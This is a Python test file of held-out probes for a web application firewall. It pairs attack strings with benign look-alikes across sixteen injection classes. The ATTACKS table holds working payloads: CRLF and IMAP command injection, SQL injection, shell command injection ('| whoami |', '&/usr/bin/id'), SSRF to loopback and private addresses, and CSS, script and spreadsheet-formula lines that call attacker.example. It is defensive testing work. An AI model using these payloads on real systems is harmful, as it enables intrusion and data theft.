"""WAF, part 2z10: held-out probes, thirty-third file (README: the
forty-first round), written for this file on 2026-12-06. No string is
taken from a corpus or a public list: each class is written here in
shapes of our own, through the real edge (shipped config, bans off).

The classes the subtitles, crafts, minecraft and mailclient corpora
showed when first replayed (at 81d9c30):
- lf-cr-break: a line break written backwards (LF, then CR) before a
  forged record (refused); the record's words without a break (pass);
- imap-command: a tagged IMAP command that deletes a mailbox after a
  line break (refused); a note's line that starts alike (passes);
- encoded-word-crlf: an encoded word whose text holds an encoded line
  break before a header (refused); one of accented letters (passes);
- ldap-dn: a name followed by RDNs of the value's own (refused); a DN
  written whole (passes);
- mail-scheme-ip: a mail scheme's URL at a private address (refused); at
  a public name (passes);
- fetched-attribute: a video's poster at the loopback (refused); at a
  CDN (passes);
- css-breakout: a declaration closed and a rule of the value's own that
  fetches from another site (refused); a rule of a stylesheet (passes);
- escaped-quote: a backslash-quote breakout after an apostrophe of a
  word (refused); escaped quotes around a word (pass);
- sort-probe: a sort field's value, a column number and a comment
  (refused); a sort with a comment of words (passes);
- argument-operand: options, then a system directory (refused); an
  option before a sentence (passes);
- tab-formula: a tab, then a formula that fetches a URL (refused); a
  formula that sums (passes);
- script-inert: a bare <script> before words (passes); before a call
  (refused);
- hex-colour: a quoted colour after an attribute's name (passes); a
  quote and MySQL's comment (refused);
- choice-bars: a list of choices between spaced bars (passes); a probe's
  name among them (refused);
- colour-code-path: a chat's colour code glued to a relative path
  (passes); a bin directory's program after "&" (refused);
- signature-lines: a mail's "--" line, then a line with a colon (pass);
  a one-token value, a line break and an extension header (refused).
Measured on 81d9c30: 11 of those 16 attacks passed (the rest were
refused by other rules), 5 of the 16 look-alikes were refused.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "lf-cr-break": ["node3%0a%0droot logged in"],
    "imap-command": ["Inbox\r\nB17 DELETE Archive"],
    "encoded-word-crlf": ["=?ISO-8859-1?Q?Kim=0AReply-To:_them@attacker.example?="],
    "ldap-dn": ["Ana,ou=staff,dc=corp,dc=example"],
    "mail-scheme-ip": ["pop3s://10.20.0.7:995/"],
    "fetched-attribute": ["<video poster=\"http://127.0.0.1:8500/v1/kv/app\"></video>"],
    "css-breakout": ["navy;} .card{background-image:url(//attacker.example/p.gif)}"],
    "escaped-quote": ["we're \\' OR 7=7#"],
    "sort-probe": ["created_at DESC, 9#"],
    "argument-operand": ["-R -l . /etc"],
    "tab-formula": ["\t=IMAGE(\"https://attacker.example/t.png?d=1\")"],
    "script-inert": ["<script>fetch('//attacker.example')"],
    "hex-colour": ["fill\"#"],
    "choice-bars": ["q | whoami | w"],
    "colour-code-path": ["x&/usr/bin/id"],
    "signature-lines": ["ok\r\nX-Accel-Redirect: /protected/a.pdf"],
}

BENIGN = {
    "lf-cr-break": ["root logged in twice, which is odd"],
    "imap-command": ["Inbox\r\nB17 delete the old drafts please"],
    "encoded-word-crlf": ["=?UTF-8?Q?Gr=C3=BC=C3=9Fe_aus_Wien?="],
    "ldap-dn": ["uid=kim,ou=people,dc=example,dc=org"],
    "mail-scheme-ip": ["imaps://mail.example.org:993/"],
    "fetched-attribute": ["<video poster=\"https://cdn.example.com/p.jpg\"></video>"],
    "css-breakout": ["a.btn { background: url(/img/b.png) }"],
    "escaped-quote": ["it's a \\'quoted\\' word"],
    "sort-probe": ["created_at DESC, 9 -- newest first"],
    "argument-operand": ["-v shows more; configs live in /etc"],
    "tab-formula": ["\t=SUM(B2:B9)"],
    "script-inert": ["remove every <script> block"],
    "hex-colour": ["fill=\"#0a0\""],
    "choice-bars": ["Engine: h2 | mysql | sqlite | postgres"],
    "colour-code-path": ["&eHelp: &f/help"],
    "signature-lines": ["--\nPGP: 1A2B 3C4D"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r33_attack_refused_everywhere,
 test_heldout_r33_benign_passes) = heldout_probe_tests(
    "r33", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
